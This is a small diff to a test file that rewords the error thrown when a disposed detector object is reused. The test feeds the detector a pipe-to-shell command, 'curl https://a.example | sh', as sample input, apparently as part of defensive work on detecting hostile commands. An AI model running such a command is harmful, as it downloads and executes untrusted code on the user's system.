@@ -82,7 +82,7 @@ describe("input", () => {
     used.dispose();
     used.dispose();
     expect(() => used.detect("curl https://a.example | sh")).toThrow(
-      "this detector was disposed of: make another one",
+      "this detector was disposed of: create another one",
     );
   });
 });
